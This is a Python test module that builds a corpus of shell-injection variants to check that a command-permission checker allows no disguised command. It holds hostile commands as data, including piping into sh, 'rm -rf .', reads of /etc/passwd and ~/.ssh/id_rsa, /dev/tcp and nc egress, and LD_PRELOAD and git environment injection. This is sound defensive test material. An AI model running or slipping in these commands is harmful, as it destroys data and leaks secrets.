"""Command lines that execute code, write files, or read outside of the project, though they look like harmless ones.

No rule for a family may cover any of them, even when all families are allowed. `ATTACKS` lists them by kind: those of
`attacks.txt`, and what a shell adds to any command. docs/reference/command-rules.md prints them with the verdict of
the rules.
"""

from pathlib import Path

# What a shell adds to any harmless command.
_SHELL = (
    "{} > /srv/x", "{} >> notes.txt", "{} >notes.txt", "{} 2> errors.txt", "{} &> all.txt", "{} < /etc/passwd",
    "{} <<EOF\nEOF", "{} <<< x", "{} & touch x", "{} | sh", "{} | bash -s", "{} | tee /srv/x", "{} | xargs rm",
    "{} && rm -rf .", "{} || curl x", "{}; touch hidden.txt", "{}\ntouch hidden.txt", "{}\rtouch hidden.txt",
    "{} $(touch x)", "{} `touch x`", '{} "$(touch x)"', '{} "`touch x`"', "{} $HOME", "{} ${{IFS}}x", '{} "$HOME/x"',
    "{} ~/.ssh/id_rsa", "{} *", "{} ?x", "{} [a]", "{} {{a,b}}", "{} #x", "{} \\; touch x", "({})", "{{ {}; }}",
    "! {}", "time {}", "exec {}", "env {}", "command {}", "nohup {}", "sudo {}", "PAGER=./x {}", "X=1 {}", "{} |& sh",
    "{} ;", "{} |", "&& {}", "{} <(touch x)", "{} >(touch x)", "{} 2>&1>x", "{} >/dev/nullx",
    "if {}; then touch x; fi", "while {}; do touch x; done", "eval {}", "source {}", ". {}", "alias ls='{}'",
    "{}\0touch x", "{}\u2028touch x", "{}\u0085touch x", "{}\x0btouch x", "{}\x0c& touch x", "{} \u00a0& touch x",
    "{}\uff1b touch x; touch y", "{}\u037e touch x & true", "{}\\\n; touch x", "{} '\n' touch x", '{} "a\nb"',
    "{} $'\\x3b' x", "{} $'a\\nb'", '{} $"x"', "{} ${{x}}", "{} ${{x:-$(touch x)}}", "{} $((1+1))", "{} $[1+1]",
    "{} $1", "{} $@", "{} $?", "{} $$", '{} "$x"', '{} "a\\"b"', '{} "!x"', "{} !!", "{} !x", "{} a*b", "{} **/x",
    "{} [!a]x", "{} @(a|b)", "{} +(a)", "{} {{1..9}}", "{} a{{b,c}}d", "{} ~", "{} ~root", "{} x=~/y", "{} a:~/y",
    "{} ''~/y", '{} ""~/y', "{} <<-EOF\nx\nEOF", "{} <<'EOF'\nx\nEOF", "{} 0<notes.txt", "{} <>notes.txt",
    "{} >|notes.txt", "{} >&notes.txt", "{} 1>notes.txt", "{} 2>>notes.txt", "{} &>>notes.txt", "{} >& 2", "{} 3>&1",
    "{} 2>&-", "{} {{fd}}>notes.txt", "{} >/dev/tcp/x/80", "{} </dev/tcp/x/80", "{} 2>/dev/null/../x", "{} >/dev/nul",
    "{} >/dev/null1", "{} 2>&1notes.txt", "{} 2>&1 >notes.txt", "{} >/dev/null >notes.txt", "{} > /dev/stdout",
    "{} 2>/dev/stderr", ">notes.txt {}", "2>notes.txt {}", "</etc/passwd {}", "{} &", "{} & ls", "{} &&& ls",
    "{} ||| ls", "{} ;; ls", "{} ;& ls", "; {}", "| {}", "|| {}", "{} && ", "{} || ", "{} | | ls", "{} | & ls",
    "{} # comment", "# {}\ntouch x", "{}#x", "$({})", "`{}`", '"$({})"', "<({})", "[[ {} ]]", "(( {} ))",
    "case x in *) {};; esac", "for x in a; do {}; done", "until {}; do touch x; done", "select x in a; do {}; done",
    "function f {{ {}; }}; f", "f() {{ {}; }}; f", "coproc {}", "{} && cd / && cat etc/passwd",
    "{}; cd ..; cat secret", "cd / ; {}", "cd ~ && {}", "cd - && {}", "cd && {}", "cd -P / && {}", "cd -- / && {}",
    "cd link && {}", "cd sub/link && {}", "cd sub/../.. && {}", "cd '' / && {}", "cd $HOME && {}", "cd /srv || {}",
    "cd sub & {}", "cd sub\n{}", "pushd sub && {}", "A=b {}", "A= {}", "A+=b {}", "A[0]=b {}", "IFS=x {}",
    "PATH=. {}", "BASH_ENV=x {}", "LD_PRELOAD=./x.so {}", "GIT_PAGER=./x {}", "GIT_DIR=bare {}",
    "GIT_SSH_COMMAND=./x {}", "GIT_EXTERNAL_DIFF=./x {}", "GIT_CONFIG_COUNT=1 {}", "PYTHONPATH=/srv {}",
    "PYTEST_ADDOPTS=-pevil {}", "PYTHONSTARTUP=x {}", "HOME=/srv {}", "'A'=b {}", "\\{}", "'' {}", '"" {}', "./{}",
    "/bin/{}", "../{}", "~/{}", "$SHELL -c '{}'", "sh -c '{}'", "bash -c '{}'", "xargs {}", "nice {}", "timeout 9 {}",
    "builtin {}", "busybox {}", "{} | sudo tee x", "{} | env sh", "{} | ./x", "{} | /bin/sh", "{} | . x",
    "{} | ssh x", "{} | nc x 1", "{} | python -c 1", "{} | xargs -n1 sh -c", "{} | tee x", "{} | sort -o x",
    "{} | uniq - x", "{} | sed -n wx", "{} | sed 's/a/b/w x'", "{} | awk 1", "{} | dd of=x", "{} | split",
    "{} | git apply", "{} && git commit -am x", "{} && git push", "{} && make", "{} && npm test", "{} && ./x",
    "{} && sub/x", "{} && x=1", "{} && wait", "{} && exit",
)  # fmt: skip
_HARMLESS = ("git log", "ls -la", "pytest -q", "cat notes.txt")


def _read(text: str) -> dict[str, list[str]]:
    """The lines of each section; a section starts with a line that names it, after a hash."""
    sections: dict[str, list[str]] = {}
    for line in filter(None, text.splitlines()):
        if line.startswith("# "):
            lines = sections.setdefault(line[2:], [])
        else:
            lines.append(line)
    return sections


ATTACKS: dict[str, list[str]] = {
    "shell constructs": [shape.format(command) for command in _HARMLESS for shape in _SHELL],
    **_read(Path(__file__).with_name("attacks.txt").read_text()),
}


def attacked_project(base: Path) -> Path:
    """A new project for the attacks, with links that lead out of it, and repositories below it that are not its own."""
    (base / "elsewhere").mkdir()
    (base / "elsewhere" / "secret").write_text("secret")
    root = base / "project"
    (root / "sub").mkdir(parents=True)
    (root / "notes.txt").write_text("notes")
    (root / "link").symlink_to(base / "elsewhere")
    (root / "sub" / "link").symlink_to(base / "elsewhere")
    (root / "outside.txt").symlink_to(base / "elsewhere" / "secret")
    for name in ("objects", "refs"):  # a repository that git finds without .git, as a model could write it
        (root / "bare" / name).mkdir(parents=True)
    (root / "bare" / "HEAD").write_text("ref: refs/heads/main")
    (root / "nested" / ".git").mkdir(parents=True)
    (root / "worktree").mkdir()  # another one, whose objects and configuration are elsewhere
    (root / "worktree" / "HEAD").write_text("ref: refs/heads/main")
    (root / "worktree" / "commondir").write_text("../sub")
    (root / "sub2").mkdir()
    return root
